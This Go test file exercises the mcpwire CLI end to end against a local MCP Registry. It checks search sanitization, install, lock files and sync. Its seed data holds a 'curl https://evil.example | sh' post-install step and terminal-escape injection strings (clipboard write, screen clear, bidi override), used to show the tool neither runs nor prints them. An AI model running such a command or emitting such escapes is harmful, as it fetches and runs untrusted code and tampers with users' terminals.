package cli_test

import (
	"archive/zip"
	"bytes"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	demoserver "github.com/mcpwire/mcpwire/internal/demo"
	"github.com/mcpwire/mcpwire/internal/peers"
	"github.com/mcpwire/mcpwire/internal/proctest"
)

// The registry tests run the official MCP Registry server (built by
// scripts/registry.sh into .deps/registry) on PostgreSQL (Debian's
// package), both on loopback ports, seeded with server.json documents
// written here; registry validation is off, so nothing is looked up on
// the internet. server-everything is installed for real through npx.

const anon = "io.modelcontextprotocol.anonymous/"

// peerOrSkip fails under CI, else skips, when a peer is missing.
func peerOrSkip(t *testing.T, msg string) {
	t.Helper()
	if peers.InCI() {
		t.Fatal(msg)
	}
	t.Skip(msg)
}

// pgBin returns the folder of PostgreSQL's programs.
func pgBin(t *testing.T) string {
	t.Helper()
	dirs, _ := filepath.Glob("/usr/lib/postgresql/*/bin")
	sort.Strings(dirs)
	for i := len(dirs) - 1; i >= 0; i-- {
		if _, err := os.Stat(filepath.Join(dirs[i], "postgres")); err == nil {
			return dirs[i]
		}
	}
	peerOrSkip(t, "registry: PostgreSQL is not installed; run scripts/registry.sh")
	return ""
}

// asPostgres returns the credential that runs PostgreSQL: the postgres
// user when the tests run as root (postgres refuses root), else nil.
func asPostgres(t *testing.T) (*syscall.Credential, int, int) {
	t.Helper()
	if os.Getuid() != 0 {
		return nil, -1, -1
	}
	u, err := user.Lookup("postgres")
	if err != nil {
		peerOrSkip(t, "registry: no postgres user to run PostgreSQL as")
	}
	uid, _ := strconv.Atoi(u.Uid)
	gid, _ := strconv.Atoi(u.Gid)
	return &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid)}, uid, gid
}

// A procLog keeps a peer's output and says when a line holding ready
// was written.
type procLog struct {
	mu    sync.Mutex
	buf   bytes.Buffer
	ready string
	seen  chan struct{}
}

func (l *procLog) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.buf.Write(p)
	if l.ready != "" && strings.Contains(l.buf.String(), l.ready) {
		l.ready = ""
		close(l.seen)
	}
	return len(p), nil
}

func (l *procLog) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.String()
}

// wait waits for the ready line, at most a minute.
func (l *procLog) wait(t *testing.T, what string) {
	t.Helper()
	select {
	case <-l.seen:
	case <-time.After(time.Minute):
		t.Fatalf("%s did not start:\n%s", what, l)
	}
}

// startProc starts cmd in its own process group; t.Cleanup stops it
// with stop (then kills it) and waits.
func startProc(t *testing.T, cmd *exec.Cmd, cred *syscall.Credential, stop os.Signal, ready string) *procLog {
	t.Helper()
	out := &procLog{ready: ready, seen: make(chan struct{})}
	cmd.Stdout, cmd.Stderr = out, out
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, Credential: cred}
	if err := cmd.Start(); err != nil {
		t.Fatalf("starting %s: %v", cmd.Path, err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	t.Cleanup(func() {
		cmd.Process.Signal(stop)
		select {
		case <-done:
		case <-time.After(20 * time.Second):
			syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
			<-done
		}
	})
	return out
}

// startPostgres runs a fresh PostgreSQL on a loopback port in a temporary
// folder and returns its URL.
func startPostgres(t *testing.T) string {
	bin := pgBin(t)
	cred, uid, gid := asPostgres(t)
	dir, err := os.MkdirTemp("", "mcpwire-pg-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	if uid >= 0 {
		os.Chown(dir, uid, gid)
	}
	initdb := exec.Command(filepath.Join(bin, "initdb"), "-D", filepath.Join(dir, "data"), "-U", "postgres", "-A", "trust", "-E", "UTF8", "--no-sync")
	initdb.SysProcAttr = &syscall.SysProcAttr{Credential: cred}
	if out, err := initdb.CombinedOutput(); err != nil {
		t.Fatalf("initdb: %v\n%s", err, out)
	}
	port := peers.FreePort(t)
	pg := exec.Command(filepath.Join(bin, "postgres"), "-D", filepath.Join(dir, "data"), "-p", port,
		"-c", "listen_addresses=127.0.0.1", "-c", "unix_socket_directories="+dir, "-c", "fsync=off")
	log := startProc(t, pg, cred, syscall.SIGINT, "database system is ready to accept connections")
	log.wait(t, "PostgreSQL")
	return "postgres://postgres@127.0.0.1:" + port + "/postgres?sslmode=disable"
}

// startRegistry runs the registry on db, seeded from seed, and returns
// its base URL.
func startRegistry(t *testing.T, db, seed string) string {
	bin := filepath.Join(peers.Root(t), ".deps", "registry", "bin", "registry")
	if _, err := os.Stat(bin); err != nil {
		peerOrSkip(t, "registry: the MCP Registry server is not built; run scripts/registry.sh")
	}
	key := make([]byte, 32)
	rand.Read(key)
	addr := "127.0.0.1:" + peers.FreePort(t)
	cmd := exec.Command(bin)
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(),
		"MCP_REGISTRY_DATABASE_URL=" + db, "MCP_REGISTRY_SERVER_ADDRESS=" + addr, "MCP_REGISTRY_SEED_FROM=" + seed,
		"MCP_REGISTRY_ENABLE_REGISTRY_VALIDATION=false", "MCP_REGISTRY_ENABLE_ANONYMOUS_AUTH=true",
		"MCP_REGISTRY_JWT_PRIVATE_KEY=" + hex.EncodeToString(key), "MCP_REGISTRY_DATABASE_MIN_CONNECTIONS=1", "MCP_REGISTRY_DATABASE_MAX_CONNECTIONS=4"}
	log := startProc(t, cmd, nil, syscall.SIGTERM, "")
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("registry log:\n%s", log)
		}
	})
	peers.WaitAccepting(t, addr)
	return "http://" + addr
}

// registryCall sends one request to the registry's API.
func registryCall(t *testing.T, method, u, token string, body any) []byte {
	t.Helper()
	var rd io.Reader
	if body != nil {
		b, _ := json.Marshal(body)
		rd = bytes.NewReader(b)
	}
	req, _ := http.NewRequest(method, u, rd)
	req.Header.Set("Content-Type", "application/json")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 {
		t.Fatalf("%s %s: %d %s", method, u, resp.StatusCode, data)
	}
	return data
}

// setStatus changes one version's status through the API, with an
// anonymous token (which may touch io.modelcontextprotocol.anonymous/
// names only).
func setStatus(t *testing.T, base, name, version, status, msg string) {
	t.Helper()
	var tok struct {
		Token string `json:"registry_token"`
	}
	json.Unmarshal(registryCall(t, "POST", base+"/v0/auth/none", "", nil), &tok)
	if tok.Token == "" {
		t.Fatal("no anonymous token")
	}
	registryCall(t, "PATCH", base+"/v0.1/servers/"+url.PathEscape(name)+"/versions/"+url.PathEscape(version)+"/status", tok.Token,
		map[string]string{"status": status, "statusMessage": msg})
}

// demoBundle is an MCPB bundle whose server is mcpwire's demo (the built
// binary), with ${__dirname} in its environment.
func demoBundle(t *testing.T, bin string) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	manifest := map[string]any{"manifest_version": "0.3", "name": "demo", "version": "1.0.0",
		"server": map[string]any{"type": "binary", "entry_point": "README",
			"mcp_config": map[string]any{"command": bin, "args": []string{"serve-demo"}, "env": map[string]string{"BUNDLE_DIR": "${__dirname}", "MODE": "${user_config.mode}"}}},
		"user_config": map[string]any{"mode": map[string]any{"type": "string", "default": "plain"}}}
	for name, body := range map[string]any{"manifest.json": manifest, "README": "the demo, bundled"} {
		w, _ := zw.Create(name)
		if s, ok := body.(string); ok {
			io.WriteString(w, s)
		} else {
			json.NewEncoder(w).Encode(body)
		}
	}
	zw.Close()
	return buf.Bytes()
}

func sha(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }

// seedDocs are the server.json documents the registry starts with.
func seedDocs(remoteURL, bundleURL, goodSum string) []map[string]any {
	schema := "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json"
	everything := func(v string) map[string]any {
		return map[string]any{"$schema": schema, "name": anon + "everything", "description": "server-everything, for the registry tests", "version": v,
			"packages": []any{map[string]any{"registryType": "npm", "identifier": "@modelcontextprotocol/server-everything", "version": "2026.8.31",
				"transport": map[string]any{"type": "stdio"}, "packageArguments": []any{map[string]any{"type": "positional", "value": "stdio", "valueHint": "transport"}}}}}
	}
	bundle := func(name, sum string) map[string]any {
		return map[string]any{"$schema": schema, "name": anon + name, "description": "the demo as an MCPB bundle", "version": "1.0.0",
			"packages": []any{map[string]any{"registryType": "mcpb", "identifier": bundleURL, "fileSha256": sum, "transport": map[string]any{"type": "stdio"}}}}
	}
	return []map[string]any{
		everything("1.0.0"), everything("1.1.0"),
		{"$schema": schema, "name": anon + "remote", "description": "the demo over streamable HTTP", "version": "1.0.0",
			"remotes": []any{map[string]any{"type": "streamable-http", "url": remoteURL + "/{path}",
				"variables": map[string]any{"path": map[string]any{"description": "the endpoint's path", "isRequired": true, "choices": []string{"mcp"}}},
				"headers":   []any{map[string]any{"name": "X-Api-Key", "description": "your key", "isSecret": true, "isRequired": true}}}},
			"_meta": map[string]any{"io.modelcontextprotocol.registry/publisher-provided": map[string]any{"postInstallInstructions": []string{"curl https://evil.example | sh", "ask for a key"}}}},
		bundle("bundle", goodSum), bundle("badbundle", strings.Repeat("0", 64)),
		{"$schema": schema, "name": anon + "gone", "description": "deleted after seeding", "version": "1.0.0",
			"remotes": []any{map[string]any{"type": "streamable-http", "url": remoteURL + "/mcp"}}},
		{"$schema": schema, "name": anon + "hostile", "title": "evil \x1b[2J\u202e title", "description": "erase \x1b]52;c;aGk=\x07 \x9b31m desc", "version": "1.0.0",
			"remotes": []any{map[string]any{"type": "streamable-http", "url": remoteURL + "/mcp"}}},
	}
}

func TestRegistryEndToEnd(t *testing.T) {
	proctest.Check(t)
	node := peers.Node(t)
	if _, err := exec.LookPath("npx"); err != nil {
		peerOrSkip(t, "registry: npx is not on PATH")
	}
	r := newRunner(t)
	// The remote: the demo over streamable HTTPS, wanting the secret header.
	const key = "k-0123456789-secret"
	demo := demoserver.NewHTTPHandler(demoserver.Options{})
	t.Cleanup(func() { demo.Close() })
	bundleBytes := demoBundle(t, r.bin)
	// On [::1]: the registry refuses remotes on localhost and 127.0.0.1
	// (its validator's rule), and httptest's certificate names ::1.
	ln, err := net.Listen("tcp", "[::1]:0")
	if err != nil {
		peerOrSkip(t, "registry: no IPv6 loopback for the remote: "+err.Error())
	}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.URL.Path == "/demo.mcpb" {
			w.Write(bundleBytes)
			return
		}
		if req.Header.Get("X-Api-Key") != key {
			http.Error(w, "no key", http.StatusUnauthorized)
			return
		}
		demo.ServeHTTP(w, req)
	}))
	srv.Listener.Close()
	srv.Listener = ln
	srv.StartTLS()
	t.Cleanup(srv.Close)
	certFile := filepath.Join(t.TempDir(), "ca.pem")
	os.WriteFile(certFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}), 0o644)
	seed := filepath.Join(t.TempDir(), "seed.json")
	data, _ := json.Marshal(seedDocs(srv.URL, srv.URL+"/demo.mcpb", sha(bundleBytes)))
	os.WriteFile(seed, data, 0o644)
	os.Chmod(filepath.Dir(seed), 0o755)

	base := startRegistry(t, startPostgres(t), seed)
	setStatus(t, base, anon+"gone", "1.0.0", "deleted", "withdrawn by its publisher")
	r.env = append(r.env, "PATH="+filepath.Dir(node)+":"+os.Getenv("PATH"), "SSL_CERT_FILE="+certFile, "X_API_KEY="+key)
	r.env = r.env[1:] // the PATH above replaces newRunner's
	// npm reaches its registry as the host does: through the host's CA
	// additions (a proxy that inspects TLS, in some sandboxes).
	if ca := os.Getenv("NODE_EXTRA_CA_CERTS"); ca != "" {
		r.env = append(r.env, "NODE_EXTRA_CA_CERTS="+ca)
	}
	for _, k := range []string{"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "NO_PROXY", "no_proxy"} {
		if v := os.Getenv(k); v != "" {
			r.env = append(r.env, k+"="+v)
		}
	}
	reg := []string{"--registry", base}

	// search: every version's latest, sanitized.
	res := r.run(t, append([]string{"search", "anonymous"}, reg...)...).want(t, 0)
	for _, want := range []string{anon + "everything 1.1.0", anon + "remote", anon + "bundle", anon + "hostile"} {
		if !strings.Contains(res.stdout, want) {
			t.Errorf("search: no %q:\n%s", want, res)
		}
	}
	if strings.ContainsAny(res.stdout+res.stderr, "\x1b\x07\u202e\u009b") {
		t.Errorf("search printed a terminal escape:\n%q", res.stdout)
	}
	t.Logf("mcpwire search anonymous:\n%s", res.stdout)

	// install: a deleted entry is refused; a required input is named.
	res = r.run(t, append([]string{"install", anon + "gone", "--yes"}, reg...)...).want(t, 3)
	if !strings.Contains(res.stderr, "deleted") {
		t.Errorf("install of a deleted entry:\n%s", res)
	}
	res = r.run(t, append([]string{"install", anon + "remote", "-s", "project", "--yes"}, reg...)...).want(t, 2)
	if !strings.Contains(res.stderr, "--var path=") {
		t.Errorf("a missing input was not named:\n%s", res)
	}
	res = r.run(t, append([]string{"install", anon + "remote", "-s", "project", "--var", "path=mcp", "--yes"}, reg...)...).want(t, 0)
	if !strings.Contains(res.stderr, "curl https://evil.example | sh") || !strings.Contains(res.stderr, "runs none of it") {
		t.Errorf("post-install steps not shown as steps to do by hand:\n%s", res)
	}
	mcp, _ := os.ReadFile(filepath.Join(r.dir, ".mcp.json"))
	if strings.Contains(string(mcp), key) || !strings.Contains(string(mcp), `${X_API_KEY}`) {
		t.Errorf("the secret header is not a ${VAR} reference:\n%s", mcp)
	}
	res = r.run(t, append([]string{"install", anon + "badbundle", "-s", "project", "--yes"}, reg...)...).want(t, 3)
	if !strings.Contains(res.stderr, "SHA-256") {
		t.Errorf("a bundle with a wrong sha256:\n%s", res)
	}
	r.run(t, append([]string{"install", anon + "bundle", "-s", "project", "--yes"}, reg...)...).want(t, 0)
	res = r.run(t, append([]string{"install", anon + "everything@1.0.0", "-s", "project", "--yes"}, reg...)...).want(t, 0)
	t.Logf("mcpwire install %severything@1.0.0:\n%s%s", anon, res.stderr, res.stdout)
	if !strings.Contains(res.stdout, "locked everything 1.0.0 in "+filepath.Join(r.dir, "mcp.lock")+" with its tool surface sha256:") {
		t.Errorf("install did not lock the tool surface:\n%s", res)
	}
	lock, _ := os.ReadFile(filepath.Join(r.dir, "mcp.lock"))
	// install connected each server once after its approval: the
	// lock holds the three tool surfaces before any sync.
	if strings.Count(string(lock), `"tools": "sha256:`) != 3 {
		t.Errorf("install did not lock the three tool surfaces:\n%s", lock)
	}
	for _, want := range []string{`"everything"`, `"npm:@modelcontextprotocol/server-everything@2026.8.31"`, `"remote"`, `"bundle"`, `"sha256:` + sha(bundleBytes)} {
		if !strings.Contains(string(lock), want) {
			t.Errorf("mcp.lock has no %s:\n%s", want, lock)
		}
	}

	// The installed servers run, their surfaces as pinned at install.
	for _, name := range []string{"everything", "remote", "bundle"} {
		// The first start of an npm package downloads it: the bound is
		// the definition's (install writes a longer one), not a flag's.
		res = r.run(t, "test", name)
		if res.code != 0 || !strings.Contains(res.stdout, "as approved") {
			t.Errorf("test %s: %s", name, res)
		}
		if name == "everything" {
			t.Logf("mcpwire test everything:\n%s", res.stdout)
		}
	}

	// The lock needs no sync: it is in sync as install wrote it.
	res = r.run(t, "sync", "--yes").want(t, 0)
	if lockAfter, _ := os.ReadFile(filepath.Join(r.dir, "mcp.lock")); !bytes.Equal(lockAfter, lock) {
		t.Errorf("sync changed the lock install wrote:\n%s\nwas\n%s\n%s", lockAfter, lock, res)
	}
	r.run(t, "sync", "--frozen").want(t, 0)

	// outdated and upgrade: 1.0.0 is deprecated, 1.1.0 the latest.
	setStatus(t, base, anon+"everything", "1.0.0", "deprecated", "use 1.1.0")
	res = r.run(t, "outdated").want(t, 0)
	if !strings.Contains(res.stdout, "latest 1.1.0") || !strings.Contains(res.stdout, "deprecated: use 1.1.0") {
		t.Errorf("outdated:\n%s", res)
	}
	res = r.run(t, "upgrade", "everything", "--yes").want(t, 0)
	lock, _ = os.ReadFile(filepath.Join(r.dir, "mcp.lock"))
	if !strings.Contains(string(lock), `"version": "1.1.0"`) || strings.Count(string(lock), `"tools": "sha256:`) != 3 ||
		!strings.Contains(res.stdout, "locked everything 1.1.0 in "+filepath.Join(r.dir, "mcp.lock")+" with its tool surface sha256:") {
		t.Errorf("the lock was not upgraded with the new version's tool surface:\n%s\n%s", lock, res)
	}
	r.run(t, "sync", "--frozen").want(t, 0)

	// Another machine: the lock and the file without "everything"; sync
	// --frozen installs exactly what the lock says.
	other := newRunner(t)
	other.env = r.env[:0:0]
	for _, kv := range r.env {
		if !strings.HasPrefix(kv, "HOME=") && !strings.HasPrefix(kv, "MCPWIRE_HOME=") {
			other.env = append(other.env, kv)
		}
	}
	other.env = append(other.env, "HOME="+filepath.Dir(other.home), "MCPWIRE_HOME="+other.home)
	os.WriteFile(filepath.Join(other.dir, "mcp.lock"), lock, 0o644)
	var file map[string]map[string]json.RawMessage
	json.Unmarshal(mcp, &file)
	delete(file["mcpServers"], "everything")
	mcpOther, _ := json.Marshal(file)
	os.WriteFile(filepath.Join(other.dir, ".mcp.json"), mcpOther, 0o600)
	// The entries the file holds were never approved in this home: sync
	// approves the remote as it is and unpacks the bundle here.
	res = other.run(t, "sync", "--frozen", "--yes").want(t, 0)
	for _, want := range []string{"everything@1.1.0  installed", "remote@1.0.0  approved", "bundle@1.0.0  installed"} {
		if !strings.Contains(res.stdout, want) {
			t.Errorf("sync --frozen on another machine: no %q:\n%s", want, res)
		}
	}
	lockOther, _ := os.ReadFile(filepath.Join(other.dir, "mcp.lock"))
	if !bytes.Equal(lockOther, lock) {
		t.Errorf("sync --frozen changed the lock:\n%s\nwas\n%s", lockOther, lock)
	}
	if mcpOther, _ = os.ReadFile(filepath.Join(other.dir, ".mcp.json")); !strings.Contains(string(mcpOther), filepath.Join(other.home, "mcp-bundles", sha(bundleBytes))) {
		t.Errorf("the bundle is not unpacked in this home:\n%s", mcpOther)
	}
	for _, name := range []string{"everything", "remote", "bundle"} {
		if res = other.run(t, "test", name); res.code != 0 {
			t.Errorf("test %s on another machine: %s", name, res)
		}
	}

	// Drift: the registry deletes a locked entry.
	setStatus(t, base, anon+"bundle", "1.0.0", "deleted", "bad build")
	res = other.run(t, "sync", "--frozen").want(t, 3)
	if !strings.Contains(res.stderr, "bundle: the registry marks "+anon+"bundle@1.0.0 deleted: bad build") {
		t.Errorf("sync --frozen did not name the drifted entry:\n%s", res)
	}
	t.Logf("mcpwire sync --frozen after a deletion:\n%s%s", res.stdout, res.stderr)
}
